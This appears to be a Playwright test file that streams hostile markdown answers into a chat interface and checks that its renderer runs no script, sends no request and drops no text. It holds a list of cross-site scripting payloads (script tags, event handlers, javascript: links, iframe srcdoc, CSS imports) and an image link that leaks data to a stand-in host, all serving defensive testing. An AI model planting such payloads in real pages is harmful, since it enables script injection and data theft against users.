// Hostile answers: at several prefixes of each, no script runs and nothing is fetched. No text of the
// whole answer is lost.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ALL, expect, test } from '../fixtures/wire.ts';

const CORPUS = join(import.meta.dirname, '../../../shared/hostile/payloads.json');

interface Payload {
  id: string;
  markdown: string;
}

/** The suite's own payloads. */
const OWN: Payload[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](java\nscript:alert(1)) [d]( data:text/html,<script>alert(1)</script>)',
  '[e]: javascript:alert(1)\n\n[e] and <javascript:alert(1)>',
  '![x](https://evil.test/leak?data=secret) ![y](//evil.test/x.png) ![z](data:image/svg+xml,<svg onload=alert(1)>)',
  '```html" onmouseover="alert(1)\n<b>\n```',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| `<script>` | [x](vbscript:alert(1)) |',
  '<style>@import url(https://evil.test/x.css)</style><link rel=stylesheet href=//evil.test/x.css>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><base href="https://evil.test/">',
  '$\\href{javascript:alert(1)}{x}$ and $$\\htmlStyle{background:url(//evil.test)}{y}$$',
  '```mermaid\ngraph LR\n A["<img src=x onerror=alert(1)>"] --> B\n click A "javascript:alert(1)"\n```',
].map((markdown, index) => ({ id: `own-${index}`, markdown }));

const corpus: Payload[] = existsSync(CORPUS)
  ? (JSON.parse(readFileSync(CORPUS, 'utf8')) as { payloads: Payload[] }).payloads
  : [];

/** How many prefixes of each payload are checked. */
const ROUNDS = 8;

/** How many payloads arrive at the same time. Few, so that each look at the page is a short one. */
const BATCH = 25;

/** Runs in the page: lists forbidden elements and attributes in the answers. */
function problems(): string[] {
  const begun = performance.now();
  const elements = new Set(
    ('p h3 h4 h5 h6 ul ol li blockquote hr em strong del code pre a span bdi br sup table thead tbody tr th td div figure canvas ' +
      'figcaption button svg path g rect circle ellipse polygon polyline line text tspan defs marker title desc ' +
      'math mrow mi mo mn ms mtext mspace msup msub msubsup mfrac msqrt mroot mover munder munderover mtable mtr mtd ' +
      'mstyle mpadded mphantom menclose merror semantics annotation mmultiscripts mprescripts none').split(' '),
  );
  const found: string[] = [];
  for (const element of inside.root().querySelectorAll('.mt-answer *')) {
    if (!elements.has(element.localName)) found.push(`element ${element.localName}`);
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on') || name === 'srcdoc' || name === 'formaction') found.push(`attribute ${name}`);
      if ((name === 'href' || name === 'xlink:href' || name === 'src') && !/^(https?:|mailto:|#)/i.test(value)) found.push(`${name}=${value}`);
      // Formulas and diagrams may set safe styles of their own.
      const drawn = element.closest('.mt-math, .mt-code__drawing');
      if (name === 'style' && (!drawn || /url|image|position|expression|@|\\/i.test(value))) found.push(`style ${value}`);
      if (name === 'src') found.push(`fetches ${value}`);
    }
  }
  (globalThis as unknown as { own: number[][] }).own.push([begun, performance.now()]);
  return [...new Set(found)];
}

for (const [name, payloads, details] of [
  ['the suite’s own', OWN, {}],
  ['the shared corpus', corpus, ALL],
] as const) {
  test(`hostile answers, ${name}: no script runs and no request is sent at any checked prefix, and no text is lost`, details, async ({ wired, wire, page, guard }) => {
    test.skip(payloads.length === 0, 'the shared corpus is not there');
    if (payloads === corpus) test.setTimeout(240_000);
    await page.addInitScript(() => {
      const fired: string[] = [];
      const longest = { ms: 0 };
      // The test's own work in the page, which does not count as a long task.
      const own: number[][] = [];
      Object.assign(globalThis, { fired, longest, own });
      for (const name of ['alert', 'prompt', 'confirm', 'print']) {
        Object.assign(globalThis, { [name]: () => fired.push(name) });
      }
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) {
          const end = entry.startTime + entry.duration;
          const ours = own.some(([from = 0, to = 0]) => from < end && to > entry.startTime);
          if (!ours) longest.ms = Math.max(longest.ms, entry.duration);
        }
      }).observe({ type: 'longtask', buffered: true });
    });
    await page.reload();
    await expect(wired.composer).toBeVisible();

    let prefixes = 0;
    // A batch at a time, as parallel messages with interleaved deltas.
    for (let from = 0; from < payloads.length; from += BATCH) {
      const batch = payloads.slice(from, from + BATCH);
      await wired.say(`batch ${from}`);
      const run = await wire.run();
      for (const { id } of batch) run.event({ type: 'TEXT_MESSAGE_START', messageId: id, role: 'assistant' });
      for (let round = 0; round < ROUNDS; round += 1) {
        for (const { id, markdown } of batch) {
          // Every message gets text in the first round, so that the answers have the order of the batch.
          const cut = (which: number) => Math.max(Math.min(which, 1), Math.floor((markdown.length * which) / ROUNDS));
          const delta = markdown.slice(cut(round), cut(round + 1));
          if (delta) run.event({ type: 'TEXT_MESSAGE_CONTENT', messageId: id, delta });
          prefixes += 1;
        }
        run.event({ type: 'TEXT_MESSAGE_CONTENT', messageId: `mark-${from}-${round}`, delta: `mark ${from} ${round}` });
        await expect(page.getByText(`mark ${from} ${round}`, { exact: true })).toBeAttached();
        expect(await page.evaluate(problems), `batch ${from}, round ${round}`).toEqual([]);
      }
      run.finish();
      await expect(page.locator('[data-live]')).toHaveCount(0);
      await expect(page.locator('.mt-turn').last().locator('.mt-answer')).toHaveCount(batch.length + ROUNDS);
      await expect.poll(() => page.evaluate(problems)).toEqual([]);
      const lost = await page.locator('.mt-turn').last().evaluate((turn, given) => {
        const answers = [...turn.querySelectorAll('.mt-answer')];
        const gone: string[] = [];
        for (const [index, { id, markdown }] of given.entries()) {
          // By CommonMark, labels of definitions, ignored definitions, and markup in an image's
          // alternative text are not text of the answer.
          if (/\]:|\]\[|!\[[^\]]*!?\[/.test(markdown)) continue;
          const answer = answers[index];
          const attributes = [...(answer?.querySelectorAll('*') ?? [])].flatMap((node) => [...node.attributes].map(({ value }) => value));
          const there = [answer?.textContent ?? '', ...attributes].join(' ');
          const decoded = markdown.replaceAll(/&#?\w+;?|%[0-9a-f]{2}|\\./gi, ' ');
          for (const word of decoded.match(/[a-z]{4,}/gi) ?? []) {
            if (!there.toLowerCase().includes(word.toLowerCase())) gone.push(`${id}: ${word}`);
          }
        }
        return gone;
      }, batch);
      expect(lost, 'words that are gone').toEqual([]);
      // Hover, focus and click everything except links, which may lead elsewhere.
      await page.evaluate(() => {
        const begun = performance.now();
        for (const element of inside.root().querySelectorAll<HTMLElement>('.mt-answer *:not(a, a *, [data-act], [data-act] *)')) {
          for (const type of ['pointerover', 'mouseover', 'mouseenter', 'focus', 'pointerdown', 'click']) {
            element.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }));
          }
        }
        (globalThis as unknown as { own: number[][] }).own.push([begun, performance.now()]);
      });
    }
    const { fired, longest } = await page.evaluate(() => {
      const held = globalThis as unknown as { fired: string[]; longest: { ms: number } };
      return { fired: held.fired, longest: held.longest.ms };
    });
    console.log(`hostile, ${name}: ${payloads.length} payloads, ${prefixes} prefixes: ${fired.length} scripts, ${guard.unexpected.length} requests or violations, longest task ${Math.round(longest)} ms`);
    expect(fired).toEqual([]);
  });
}
